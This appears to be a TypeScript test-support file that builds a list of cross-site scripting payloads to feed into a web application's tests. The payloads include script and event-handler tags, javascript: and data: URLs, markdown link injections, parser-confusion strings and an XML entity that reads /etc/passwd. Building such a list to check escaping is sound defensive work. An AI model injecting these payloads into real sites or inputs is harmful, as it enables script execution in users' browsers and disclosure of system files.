import { IS_FULL } from '../../support/full.ts'

/** What would run if it stood anywhere but in a text. Each calls `xss`. */
const CORES = [
  '<script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg/onload=xss()>',
  '<iframe srcdoc="<script>parent.xss()</script>">',
  '<a href=javascript:xss()>x</a>',
  '<details open ontoggle=xss()>',
  '<style>@import "//x.example"</style>',
]

/** What would end the place in which a text may stand. */
const ENDINGS = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea></select></template>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
]

const ATTRIBUTES = [
  '" onmouseover="xss()',
  "' onmouseover='xss()",
  '` onmouseover=`xss()',
  ' onmouseover=xss() ',
  '" autofocus onfocus=xss() x="',
  '"/onpointerenter=xss()//',
  '" style="background:url(//x.example)',
  '" srcdoc="&lt;script>xss()&lt;/script>',
  '" formaction="javascript:xss()',
  '" ping="//x.example" x="',
  '&quot; onclick=&quot;xss()',
  '&#34; onclick=&#34;xss()',
]

const ADDRESSES = [
  'javascript:xss()',
  'JaVaScRiPt:xss()',
  ' javascript:xss()',
  '\u0001javascript:xss()',
  'java\tscript:xss()',
  'javascript&colon;xss()',
  'javascript&#58;xss()',
  '&#106;avascript:xss()',
  'javascript://gangway.example/%0axss()',
  'data:text/html,<script>xss()</script>',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  'vbscript:xss()',
  'view-source:javascript:xss()',
  'blob:javascript:xss()',
  '//x.example/xss',
  '/\\x.example/xss',
]

const SCRIPTS = [
  "';xss();//",
  '";xss();//',
  '`;xss();//',
  '\\";xss();//',
  "\\';xss();//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to be one in the page, not here
  '${xss()}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to be one in the page, not here
  '${alert`xss`}',
  '\u2028xss()//',
  '\u2029xss()//',
  '*/xss()/*',
  '<!--<script>xss()',
  '<!--<script></script><script>xss()</script>',
  '</SCRIPT ><script>xss()</script>',
  '</script\t><script>xss()</script>',
  '\\u003c/script>\\u003cscript>xss()',
  '{"__proto__":{"innerHTML":"<img onerror=xss()>"}}',
  '"}</script><script>xss()</script>{"',
  '{{constructor.constructor("xss()")()}}',
]

const MARKDOWN = [
  '[x](javascript:xss())',
  '[x](JAVASCRIPT:xss())',
  '[x](java&#115;cript:xss())',
  '[x](javascript&colon;xss())',
  '[x](<javascript:xss()>)',
  '[x](%6aavascript:xss())',
  '[x](data:text/html,<script>xss()</script>)',
  '[x](https://x.example "onmouseover=xss()")',
  '[x](https://x.example/"onmouseover="xss())',
  "[x](https://x.example/'onmouseover='xss())",
  '![x](javascript:xss())',
  '![x" onerror="xss()](x)',
  '<javascript:xss()>',
  '<https://x.example/"onclick="xss()">',
  '`<img src=x onerror=xss()>`',
  '**<img src=x onerror=xss()>**',
  '# x" onclick="xss()',
  '| <script>xss()</script> | x |',
  '```"><script>xss()</script>',
  '[x]: javascript:xss()',
  '&lt;script&gt;xss()&lt;/script&gt;',
]

const PARSERS = [
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '<<script>xss()//<</script>',
  '<script/src=//x.example>',
  '<script>xss()',
  '<math><mtext><table><mglyph><style><img src onerror=xss()>',
  '<svg><script>xss&#40;)</script>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<template><script>xss()</script></template>',
  '<base href="//x.example">',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<link rel=stylesheet href=//x.example>',
  '<object data=javascript:xss()>',
  '<embed src=javascript:xss()>',
  '<form action=javascript:xss()><button>x',
  '<input autofocus onfocus=xss()>',
  '<video><source onerror=xss()></video>',
  '<xss id=x tabindex=1 onfocus=xss()>',
  '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '<?xml version="1.0"?><x/>',
  '<![CDATA[<script>xss()</script>]]>',
  '＜script＞xss()＜/script＞',
  '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  '%3Cscript%3Exss()%3C/script%3E',
  '&#x3c;script&#x3e;xss()&#x3c;/script&#x3e;',
  '<img src=x one\u0000rror=xss()>',
  '<a href="java\u0000script:xss()">x</a>',
]

/** Nothing in them makes a line of its own, so that pages show them as they show one harmless line. */
const TEXTS = [
  ...new Set([
    ...CORES,
    ...ENDINGS.flatMap((ending, at) =>
      CORES.filter((_, core) => IS_FULL || core === at % CORES.length).map((core) => ending + core),
    ),
    ...ATTRIBUTES,
    ...SCRIPTS,
    ...MARKDOWN,
    ...PARSERS,
  ]),
]

export const SINGLES: readonly string[] = [...TEXTS, ...ADDRESSES]

/** The short form puts several into one text, an address first: what is to be an address must begin so. */
export const PAYLOADS: readonly string[] = IS_FULL
  ? SINGLES
  : ADDRESSES.map((address, at) => [address, ...TEXTS.filter((_, index) => index % ADDRESSES.length === at)].join(' '))

export const HARMLESS = 'harmless words'
